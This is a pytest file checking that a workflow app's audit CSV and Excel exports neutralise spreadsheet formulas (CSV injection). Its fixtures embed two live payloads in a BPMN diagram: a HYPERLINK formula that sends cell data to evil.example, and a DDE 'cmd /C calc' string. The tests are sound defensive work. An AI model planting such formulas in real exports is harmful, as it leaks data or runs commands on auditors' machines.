"""CSV/Excel exports never hand a spreadsheet a formula: a process owner's names and a customer's words
that begin with = + - @ (a tab, a carriage return) reach the auditor's file as text (OWASP CSV injection)."""
from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from tests.webapp.conftest import app, as_user, engine  # noqa: F401  (fixtures)
from webapp.audit.exports import table_response

PROCESS_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
TASK_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
PERIOD = "start=2026-11-01&end=2026-11-30"

HOSTILE_NAMES = f"""<?xml version="1.0" encoding="UTF-8"?>
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL"
    xmlns:bpmndi="http://www.omg.org/spec/BPMN/20100524/DI" xmlns:dc="http://www.omg.org/spec/DD/20100524/DC"
    xmlns:di="http://www.omg.org/spec/DD/20100524/DI" xmlns:camunda="http://camunda.org/schema/1.0/bpmn"
    id="Definitions_formula" targetNamespace="http://x">
  <bpmn:process id="formula_names" name="{PROCESS_NAME.replace('"', '&quot;').replace('&A1', '&amp;A1')}"
      isExecutable="true">
    <bpmn:startEvent id="StartEvent_1" name="开始">
      <bpmn:extensionElements><camunda:formData>
        <camunda:formField id="customer" label="客户" type="string" />
      </camunda:formData></bpmn:extensionElements>
      <bpmn:outgoing>Flow_1</bpmn:outgoing>
    </bpmn:startEvent>
    <bpmn:userTask id="Task_review" name="{TASK_NAME.replace("'", '&apos;')}" camunda:candidateGroups="quality">
      <bpmn:incoming>Flow_1</bpmn:incoming>
      <bpmn:outgoing>Flow_2</bpmn:outgoing>
    </bpmn:userTask>
    <bpmn:endEvent id="EndEvent_1" name="结束"><bpmn:incoming>Flow_2</bpmn:incoming></bpmn:endEvent>
    <bpmn:sequenceFlow id="Flow_1" sourceRef="StartEvent_1" targetRef="Task_review" />
    <bpmn:sequenceFlow id="Flow_2" sourceRef="Task_review" targetRef="EndEvent_1" />
  </bpmn:process>
  <bpmndi:BPMNDiagram id="Diagram_1"><bpmndi:BPMNPlane id="Plane_1" bpmnElement="formula_names">
    <bpmndi:BPMNShape id="Start_di" bpmnElement="StartEvent_1"><dc:Bounds x="150" y="100" width="36" height="36" />
    </bpmndi:BPMNShape>
    <bpmndi:BPMNShape id="Task_di" bpmnElement="Task_review"><dc:Bounds x="240" y="80" width="100" height="80" />
    </bpmndi:BPMNShape>
    <bpmndi:BPMNShape id="End_di" bpmnElement="EndEvent_1"><dc:Bounds x="400" y="100" width="36" height="36" />
    </bpmndi:BPMNShape>
    <bpmndi:BPMNEdge id="Flow_1_di" bpmnElement="Flow_1"><di:waypoint x="186" y="118" /><di:waypoint x="240" y="118" />
    </bpmndi:BPMNEdge>
    <bpmndi:BPMNEdge id="Flow_2_di" bpmnElement="Flow_2"><di:waypoint x="340" y="118" /><di:waypoint x="400" y="118" />
    </bpmndi:BPMNEdge>
  </bpmndi:BPMNPlane></bpmndi:BPMNDiagram>
</bpmn:definitions>""".encode()


@pytest.fixture
def hostile_case(engine, app) -> int:  # noqa: F811
    """A case of a diagram whose process and task names are spreadsheet formulas."""
    engine.deploy(HOSTILE_NAMES, "owner.xu", "formula_names.bpmn")
    return engine.start_instance("formula_names", {"customer": "-2+3"}, "sales.li")


def _csv_cells(body: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]


def _xlsx_cells(body: bytes) -> list:
    sheet = load_workbook(io.BytesIO(body)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def test_a_timeline_export_keeps_a_formula_named_task_as_text(as_user, hostile_case):  # noqa: F811
    auditor = as_user("audit.ma")
    csv_cells = _csv_cells(auditor.client.get(f"/audit/instances/{hostile_case}/timeline.csv").get_data())
    assert "'" + TASK_NAME in csv_cells
    assert not [cell for cell in csv_cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]

    cells = _xlsx_cells(auditor.client.get(f"/audit/instances/{hostile_case}/timeline.xlsx").get_data())
    assert "'" + TASK_NAME in [cell.value for cell in cells]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]  # no formula anywhere


def test_a_report_export_keeps_a_formula_named_process_as_text(as_user, hostile_case):  # noqa: F811
    auditor = as_user("audit.ma")
    csv_cells = _csv_cells(auditor.client.get(f"/audit/reports/export/resolution/csv?{PERIOD}").get_data())
    assert "'" + PROCESS_NAME in csv_cells

    cells = _xlsx_cells(auditor.client.get(f"/audit/reports/export/resolution/xlsx?{PERIOD}").get_data())
    [named] = [cell for cell in cells if "HYPERLINK" in str(cell.value)]
    assert (named.value, named.data_type) == ("'" + PROCESS_NAME, "s")


def test_every_formula_start_is_neutralised_and_other_text_is_untouched(app):  # noqa: F811
    """Every export goes through table_response: each dangerous start, in both formats, and plain text."""
    starts = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1"]
    plain = ["李娜", "1+1", "a=b", "'quoted", ""]
    rows = [[text, 7] for text in starts + plain]
    with app.test_request_context():
        csv_body = table_response("t", ["=header", "n"], rows, "csv").get_data()
        xlsx_body = table_response("t", ["=header", "n"], rows, "xlsx").get_data()
    expected = ["'=header", "n"] + [cell for text in starts for cell in ("'" + text, "7")] + \
        [cell for text in plain for cell in (text, "7")]
    assert _csv_cells(csv_body) == expected
    cells = _xlsx_cells(xlsx_body)
    assert [cell.value for cell in cells] == [None if v == "" else int(v) if v == "7" else v for v in expected]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
